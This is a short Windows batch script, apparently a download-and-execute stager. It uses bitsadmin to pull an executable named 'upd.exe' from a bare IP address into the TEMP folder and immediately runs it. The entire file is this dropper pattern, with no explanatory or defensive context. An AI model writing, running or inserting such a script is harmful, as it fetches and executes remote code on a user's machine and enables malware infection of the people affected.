@echo off
bitsadmin /transfer upd /download /priority high http://203.0.113.101/upd.exe "%TEMP%\upd.exe"
start "" "%TEMP%\upd.exe"
